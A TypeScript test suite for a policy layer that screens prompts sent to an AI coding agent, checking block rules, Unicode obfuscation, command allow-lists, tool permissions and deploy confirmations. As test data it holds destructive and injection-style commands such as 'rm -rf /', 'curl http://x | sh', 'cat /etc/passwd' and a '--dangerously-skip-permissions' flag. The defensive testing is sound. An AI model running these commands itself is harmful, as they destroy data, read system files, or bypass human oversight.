import { describe, expect, it } from 'vitest'
import { compilePolicy, type Resolution } from '../../src/policy/compiled-policy.ts'
import { FIXTURE } from './policy-fixture.ts'

const policy = compilePolicy(FIXTURE)

function run (caller: string, text: string): Extract<Resolution, { kind: 'run' }> {
  const result = policy.resolve(caller, text)
  if (result.kind !== 'run') throw new Error(`expected a run, got ${JSON.stringify(result)}`)
  return result
}

describe('resolve: refusals name the rule', () => {
  it.each([
    ['global block on the whole text', 'ci', 'explain why rm -rf / is bad', 'policy.block[0]'],
    ['global block, obfuscated', 'ci', 'explain ＲＭ\u200B\t-rf', 'policy.block[0]'],
    ['global block before command selection', 'ci', '/nosuch curl http://x | sh', 'policy.block[1]'],
    ['global block on a built-in', 'ci', '/cancel rm -rf', 'policy.block[0]'],
    ['block in the final prompt (template text)', 'ci', '/purge staging', 'policy.block[2] (commands.purge.prompt)'],
    ['a block the prompt assembles across the template boundary', 'free', '/wipe database users', 'policy.block[2] (commands.wipe.prompt)'],
    ['no default_command', 'line', 'deploy production', 'no default_command'],
    ['unknown command', 'ci', '/nosuch thing', 'unknown command "nosuch"'],
    ['unknown command, name not echoed when it cannot be a name', 'ci', '/$(id) x', 'unknown command'],
    ['command not in the caller\'s list', 'ci', '/deploy staging', 'callers.ci.commands (command "deploy" not allowed)'],
    ['slash alone', 'ci', '/', 'missing command name'],
    ['slash then space', 'ci', '/ run list files', 'missing command name'],
    ['choices', 'line', '/deploy moon', 'commands.deploy.choices'],
    ['choices are exact, not prefixes', 'line', '/deploy staging now', 'commands.deploy.choices'],
    ['choices with no argument', 'line', '/deploy', 'commands.deploy.choices'],
    ['args_match', 'ci', '/git push --force', 'commands.git.args_match'],
    ['args_match is anchored by the operator', 'ci', '/git commit; git status', 'commands.git.args_match'],
    ['allow (default command)', 'ci', 'delete everything', 'commands.run.allow'],
    ['allow (explicit command)', 'ci', '/run please delete everything', 'commands.run.allow'],
    ['allow with empty arguments', 'ci', '/run', 'commands.run.allow'],
    ['arguments for a command without {args}', 'ci', '/test unit', 'commands.test.prompt (takes no arguments)'],
    ['empty prompt', 'free', '\u200B\u200B', 'empty prompt'],
    ['empty prompt, whitespace only', 'free', ' \t\n ', 'empty prompt'],
    ['bidi control', 'ci', 'explain \u202Eabc', 'bidi_control'],
    ['tag characters', 'ci', 'explain \u{E0069}\u{E0067}', 'tag_character'],
    ['lone surrogate', 'ci', 'explain \uD800', 'ill_formed_unicode'],
    ['unknown caller', 'nobody', 'list files', 'unknown caller']
  ])('%s', (_name, caller, text, rule) => {
    expect(policy.resolve(caller, text)).toEqual({ kind: 'denied', rule })
  })

  it('never echoes the refused text', () => {
    for (const text of ['explain rm -rf /home/secret-thing', '/nosuch-secret-thing-that-is-long-enough-to-not-be-a-name x', '/git push secret-thing']) {
      const result = policy.resolve('ci', text)
      expect(result.kind).toBe('denied')
      expect(JSON.stringify(result)).not.toMatch(/secret-thing/)
    }
  })
})

describe('resolve: max_prompt_chars (200) on the raw text', () => {
  it('accepts exactly the limit and refuses one over', () => {
    expect(policy.resolve('free', 'a'.repeat(200)).kind).toBe('run')
    expect(policy.resolve('free', 'a'.repeat(201))).toEqual({ kind: 'denied', rule: 'max_prompt_chars' })
  })

  it('counts code points, so 200 emoji (400 UTF-16 units) fit', () => {
    expect(policy.resolve('free', '\u{1F600}'.repeat(200)).kind).toBe('run')
    expect(policy.resolve('free', '\u{1F600}'.repeat(201))).toEqual({ kind: 'denied', rule: 'max_prompt_chars' })
  })

  it('counts invisible characters too: the cap is on what was sent', () => {
    expect(policy.resolve('free', 'a' + '\u200B'.repeat(200))).toEqual({ kind: 'denied', rule: 'max_prompt_chars' })
  })

  it('is checked before anything else', () => {
    expect(policy.resolve('free', 'rm -rf ' + 'a'.repeat(200))).toEqual({ kind: 'denied', rule: 'max_prompt_chars' })
  })
})

describe('resolve: runs', () => {
  it('sends text without a slash to the default command', () => {
    expect(run('ci', 'explain the build')).toEqual({
      kind: 'run',
      command: 'run',
      args: 'explain the build',
      prompt: 'explain the build',
      tools: { allow: ['Read', 'Grep', 'Glob', 'Bash(git:*)'], deny: ['Bash(rm:*)'] },
      needsConfirm: false
    })
  })

  it('fills the template with the normalised, trimmed arguments', () => {
    expect(run('ci', '  /git   log\u200B --oneline -5  ')).toMatchObject({
      command: 'git',
      args: 'log --oneline -5',
      prompt: 'Run `git log --oneline -5` and show the output.'
    })
  })

  it('matches command names case-insensitively after normalisation', () => {
    expect(run('ci', '/GIT status').command).toBe('git')
    expect(run('ci', '／ｇｉｔ status').command).toBe('git')
    expect(run('line', '/Deploy staging').command).toBe('deploy')
  })

  it('keeps newlines and tabs inside arguments', () => {
    expect(run('free', 'line one\r\n\tline two').prompt).toBe('line one\n\tline two')
  })

  it.each([
    ['command substitution', '$(rm -x /)'],
    ['semicolon chain', 'hello; cat /etc/passwd'],
    ['backticks', 'see `id` and `uname -a`'],
    ['pipes and redirects', 'a | b > /tmp/x 2>&1 && c || d'],
    ['variables and quotes', '$HOME "$PATH" \'single\' \\$escaped'],
    ['replacement patterns of String.replace', "$& $' $` $1 $$"],
    ['a template placeholder in the arguments', '{args} {prompt}']
  ])('passes shell metacharacters to the prompt verbatim: %s', (_name, args) => {
    expect(run('free', `/echo ${args}`)).toMatchObject({ args, prompt: `Repeat exactly: ${args}` })
    expect(run('free', args).prompt).toBe(args)
  })

  it('passes a prompt starting with "-" verbatim (the runner must put it after --)', () => {
    expect(run('free', '--dangerously-skip-permissions -p hi').prompt).toBe('--dangerously-skip-permissions -p hi')
    expect(run('free', '-rf').prompt).toBe('-rf')
  })

  it('runs a command without {args} when no arguments are given', () => {
    expect(run('ci', '/test')).toMatchObject({ command: 'test', args: '', prompt: "Run the project's test suite and report passed, failed and error counts." })
  })

  it('uses the configured spelling of a choice in the prompt', () => {
    expect(run('line', '/deploy STAGING')).toMatchObject({ args: 'staging', prompt: 'Run the deployment pipeline for the staging environment.', needsConfirm: false })
    expect(run('line', '/deploy ｐｒｏｄｕｃｔｉｏｎ')).toMatchObject({ args: 'Production', prompt: 'Run the deployment pipeline for the Production environment.' })
  })

  it('flags confirm values, case-folded', () => {
    expect(run('line', '/deploy production').needsConfirm).toBe(true)
    expect(run('line', '/deploy PRODUCTION').needsConfirm).toBe(true)
    expect(run('line', '/deploy dev').needsConfirm).toBe(false)
  })

  it('narrows the command\'s tools to the caller\'s', () => {
    expect(run('ci', '/git status').tools).toEqual({
      allow: ['Bash(git status:*)', 'Bash(git log:*)', 'Bash(git diff:*)'],
      deny: ['Bash(rm:*)', 'Bash(git push:*)']
    })
    expect(run('line', '/deploy dev').tools).toEqual({ allow: [], deny: [] })
  })

  it('hands out copies of the tool lists', () => {
    run('ci', '/git status').tools.allow.push('Bash')
    expect(run('ci', '/git status').tools.allow).not.toContain('Bash')
  })

  it('keeps an RGI flag emoji in the prompt', () => {
    const england = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'
    expect(run('free', `hello ${england}`).prompt).toBe(`hello ${england}`)
  })
})

describe('resolve: built-ins', () => {
  it.each([
    ['/help', 'help', ''],
    ['/status', 'status', ''],
    ['/cancel', 'cancel', ''],
    ['/cancel run_abc123', 'cancel', 'run_abc123'],
    ['/new', 'new', ''],
    ['/confirm K7P2QX', 'confirm', 'K7P2QX'],
    ['/allow p_1', 'allow', 'p_1'],
    ['/deny p_1', 'deny', 'p_1'],
    ['/HELP', 'help', ''],
    ['  /status  ', 'status', '']
  ])('%s', (text, name, args) => {
    // Available to every caller, whatever its command list.
    for (const caller of ['ci', 'line', 'free']) {
      expect(policy.resolve(caller, text)).toEqual({ kind: 'builtin', name, args })
    }
  })

  it('lists a caller\'s commands for /help', () => {
    expect(policy.commandsFor('ci')).toEqual([
      { name: 'run', description: null, isDefault: true },
      { name: 'test', description: 'Run the tests', isDefault: false },
      { name: 'git', description: null, isDefault: false },
      { name: 'echo', description: null, isDefault: false },
      { name: 'purge', description: null, isDefault: false }
    ])
    expect(policy.commandsFor('nobody')).toEqual([])
  })
})
